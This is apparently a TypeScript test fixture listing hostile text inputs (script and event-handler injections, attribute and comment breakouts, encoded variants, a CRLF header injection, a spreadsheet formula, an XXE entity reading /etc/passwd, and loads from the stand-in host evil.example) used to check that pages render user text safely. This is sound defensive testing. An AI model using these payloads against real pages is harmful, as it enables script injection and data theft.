import * as v from 'valibot';
import { words } from '../broker/contract/words.ts';

/**
 * What somebody may write where a text is asked for, so that a page runs it, loads it, or breaks
 * (reliability F46): each breaks out of another place, or is read in another way. Those with
 * `broken` set it where they are run; the others would be seen as a report of the page's policy.
 */
export const hostileTexts: readonly string[] = [
  // Elements that run by themselves.
  '<script>window.broken=1</script>',
  '<ScRiPt >window.broken=1</sCrIpT>',
  '<script src="data:text/javascript,window.broken=1"></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">window.broken=1</script>',
  '<script/x>window.broken=1</script>',
  '<scr<script>ipt>window.broken=1</scr</script>ipt>',
  '<img src=x onerror="window.broken=1">',
  '<img src=x onerror=window.broken=1//',
  '<img/src/onerror=window.broken=1>',
  '<image href=x onerror=window.broken=1>',
  '<svg onload=window.broken=1>',
  '<svg><script>window.broken=1</script></svg>',
  '<svg><animate onbegin=window.broken=1 attributeName=x dur=1s>',
  '<foreignObject><iframe srcdoc="<script>parent.broken=1</script>">',
  '<body onload=window.broken=1>',
  '<details open ontoggle=window.broken=1>',
  '<video><source onerror=window.broken=1></video>',
  '<audio src=x onerror=window.broken=1>',
  '<input autofocus onfocus=window.broken=1>',
  '<select autofocus onfocus=window.broken=1>',
  '<marquee onstart=window.broken=1>',
  '<object data="javascript:window.broken=1">',
  '<embed src="data:text/html,<script>top.broken=1</script>">',
  '<iframe src="javascript:top.broken=1"></iframe>',
  '<math href="javascript:window.broken=1">x</math>',
  '<template><script>window.broken=1</script></template>',
  // What loads, leads away, or changes the page without a script.
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>押す</button></form>',
  '<a href="javascript:window.broken=1">押す</a>',
  // Out of an attribute, a title, a comment, a block of characters.
  '"><svg onload=window.broken=1>',
  "' onmouseover='window.broken=1",
  '" autofocus onfocus=window.broken=1 x="',
  '`onerror=window.broken=1',
  '</title><script>window.broken=1</script>',
  '</textarea></option></select><script>window.broken=1</script>',
  '</noscript><script>window.broken=1</script>',
  '--><script>window.broken=1</script><!--',
  '<!--<script>window.broken=1//-->',
  ']]><script>window.broken=1</script>',
  // Read a second time, or in another way.
  '&lt;script&gt;window.broken=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.broken=1&#62;',
  '\\u003cscript\\u003ewindow.broken=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.broken=1%3C/script%3E',
  '＜script＞window.broken=1＜/script＞',
  '+ADw-script+AD4-window.broken=1+ADw-/script+AD4-',
  '{{constructor.constructor("window.broken=1")()}}',
  '\u0024{window.broken=1}',
  'javascript:window.broken=1',
  'data:text/html,<script>window.broken=1</script>',
  '__proto__',
  "$& $1 $` $' $<name>",
  // What other sinks read: a terminal, a spreadsheet, a header, XML, a line of text.
  '\u0000\u0008\u000b\u001b[31m\u2028x',
  '\u202e>tpircs/<1=nekorb.wodniw>tpircs<',
  '=HYPERLINK("https://evil.example","x")',
  '\r\nSet-Cookie: broken=1\r\n\r\n<script>window.broken=1</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
];

/** Those that can be words at all (`broker/contract/words.ts`); the others reach no page. */
export const writableTexts: readonly string[] = hostileTexts.filter((text) =>
  v.is(words(400), text),
);

/** What is read wrong, cannot be encoded, or is no text on one line: each stands in no words. */
export const brokenTexts: readonly string[] = [
  ...[
    '\u202e12組',
    '\u202d12',
    '\u202a12',
    '\u001b[31m',
    'a\nb',
    'a\rb',
    'a\tb',
    '\u0000',
    '\u0085',
  ],
  ...['\u2028x', '\u2029x', '\ud842', '\udfb7', '\udfb7\ud842', '\ufffe', '\uffff', '\ufdd0'],
];

/** Ten thousand characters, as they break a layout: without a blank, wide, invisible, piled up. */
export const longTexts: readonly string[] = ['W', '漢', '\u200b', '😀', 'a\u0301', 'แ', '&'].map(
  (text) => text.repeat(10_000 / text.length),
);
